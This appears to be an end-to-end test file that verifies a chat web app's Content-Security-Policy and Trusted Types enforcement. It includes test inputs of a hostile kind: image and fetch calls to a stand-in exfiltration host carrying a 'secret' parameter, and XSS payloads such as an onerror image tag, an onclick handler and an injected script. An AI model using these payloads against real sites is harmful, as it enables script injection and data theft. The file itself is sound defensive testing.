// The Content-Security-Policy of the built app is in force, not just present: what it forbids is refused and
// reported by the browser itself, Trusted Types guard every HTML sink, and the one way an image from another host can
// appear (the user asks; the app fetches it and shows a blob: URL) works within it.
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { EXFIL_HOST } from '../fixtures/hostile-corpus.js';
import { interceptHuggingFaceRouter, streamReply } from '../support/browser.js';
import { HF_ROUTER, openAppOnEndpoint, useAppSessions } from '../support/e2e.js';
import { assistantMessages, openApp, sendMessage } from '../support/ui.js';
import { installPageProbe, type CspViolation } from './hostile-support.js';

const harness = useAppSessions();

async function openProbedApp(page: Page): Promise<void> {
  await installPageProbe(page);
  await openApp(page, harness.appUrl);
}

function violations(page: Page): Promise<CspViolation[]> {
  return page.evaluate(() => window.__violations ?? []);
}

const PNG_PATH = new URL('../../public/pwa-192x192.png', import.meta.url);

describe('the Content-Security-Policy of the built app', () => {
  it('blocks and reports an image or a request to another host, and nothing is sent', async () => {
    const { page, requests } = harness.session();
    await openProbedApp(page);

    const fetchOutcome = await page.evaluate(async (host) => {
      const image = document.createElement('img');
      image.src = `https://${host}/pixel.png?secret=1`;
      document.body.append(image);
      return fetch(`http://${host}/beacon`).then(
        () => 'sent',
        (error: unknown) => (error instanceof Error ? error.name : String(error)),
      );
    }, EXFIL_HOST);

    expect(fetchOutcome).toBe('TypeError');
    await expect
      .poll(() => violations(page))
      .toEqual(
        expect.arrayContaining([
          { directive: 'img-src', blockedURI: `https://${EXFIL_HOST}/pixel.png?secret=1` },
          { directive: 'connect-src', blockedURI: `http://${EXFIL_HOST}/beacon` },
        ]),
      );
    // The browser lists a refused request, failed before it left: nothing was sent.
    await expect
      .poll(() =>
        requests
          .filter((request) => request.url().includes(EXFIL_HOST))
          .map((request) => `${request.url()} ${request.failure()?.errorText ?? 'sent'}`),
      )
      .toEqual(expect.arrayContaining([`https://${EXFIL_HOST}/pixel.png?secret=1 csp`]));
    for (const request of requests.filter((candidate) => candidate.url().includes(EXFIL_HOST))) {
      expect(request.failure()?.errorText, request.url()).toBe('csp');
    }
  });

  it('enforces Trusted Types: strings are refused by every HTML and script sink, and no other policy can be made', async () => {
    const { page } = harness.session();
    await openProbedApp(page);

    const outcome = await page.evaluate(() => {
      const attempt = (step: () => unknown): string => {
        try {
          step();
          return 'allowed';
        } catch (error) {
          return error instanceof Error ? error.name : String(error);
        }
      };
      const holder = document.createElement('div');
      document.body.append(holder);
      const button = document.createElement('button');
      holder.append(button);
      const factory = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes;
      return {
        innerHTML: attempt(() => {
          holder.innerHTML = '<img src=x onerror=__pwned()>';
        }),
        insertAdjacentHTML: attempt(() => holder.insertAdjacentHTML('beforeend', '<b>x</b>')),
        handler: attempt(() => button.setAttribute('onclick', '__pwned()')),
        createPolicy: attempt(() => factory.createPolicy('attacker', { createHTML: (text: string) => text })),
        script: attempt(() => {
          const script = document.createElement('script');
          script.textContent = '__pwned()';
          document.body.append(script);
        }),
        untouched: holder.innerHTML === '<button></button>',
      };
    });

    expect(outcome).toEqual({
      innerHTML: 'TypeError',
      insertAdjacentHTML: 'TypeError',
      handler: 'TypeError',
      createPolicy: 'TypeError',
      script: 'TypeError',
      untouched: true,
    });
    await expect
      .poll(async () => new Set((await violations(page)).map((violation) => violation.directive)))
      .toEqual(new Set(['require-trusted-types-for', 'trusted-types']));
    expect(await page.evaluate(() => window.__pwnedCalls)).toBe(0);
  });

  it('shows an image the user asks for from a blob: URL, and links to one whose host does not allow it', async () => {
    const { page, context } = harness.session();
    const png = await readFile(PNG_PATH);
    // A host that serves the image but no CORS headers (Playwright's routes would add them): the app may not read it.
    const noCors = createServer((_request, response) =>
      response.writeHead(200, { 'Content-Type': 'image/png' }).end(png),
    );
    await new Promise<void>((resolve) => noCors.listen(0, '127.0.0.1', resolve));
    const noCorsHost = `127.0.0.1:${(noCors.address() as AddressInfo).port}`;
    try {
      const imageRequests: Record<string, string | undefined>[] = [];
      await context.route('https://cdn.pictures.example/**', async (route) => {
        imageRequests.push(await route.request().allHeaders());
        await route.fulfill({ contentType: 'image/png', headers: { 'access-control-allow-origin': '*' }, body: png });
      });
      await interceptHuggingFaceRouter(context, () =>
        streamReply([
          'A chart: ![the chart](https://cdn.pictures.example/chart.png)',
          `\n\nA photo: ![the photo](http://${noCorsHost}/photo.png)`,
        ]),
      );
      await installPageProbe(page);
      await openAppOnEndpoint(page, harness.appUrl, HF_ROUTER);

      await sendMessage(page, 'Show me');
      const reply = assistantMessages(page).last();
      await reply.getByRole('button', { name: 'Load image from cdn.pictures.example' }).click();
      await reply.getByRole('button', { name: `Load image from ${noCorsHost}` }).click();

      const image = reply.getByRole('img', { name: 'the chart' });
      await image.waitFor();
      const shown = await image.evaluate(async (element: HTMLImageElement) => {
        await element.decode();
        return { src: element.getAttribute('src') ?? '', width: element.naturalWidth };
      });
      expect(shown.src).toMatch(/^blob:/);
      expect(shown.width).toBe(192);
      const link = reply.getByRole('link', { name: `Open image from ${noCorsHost}` });
      expect(await link.getAttribute('href')).toBe(`http://${noCorsHost}/photo.png`);
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');

      expect(imageRequests).toHaveLength(1);
      expect(imageRequests[0]?.['referer']).toBeUndefined();
      expect(imageRequests[0]?.['cookie']).toBeUndefined();
      expect(await violations(page)).toEqual([]);
    } finally {
      noCors.closeAllConnections();
      await new Promise((resolve) => noCors.close(resolve));
    }
  });
});
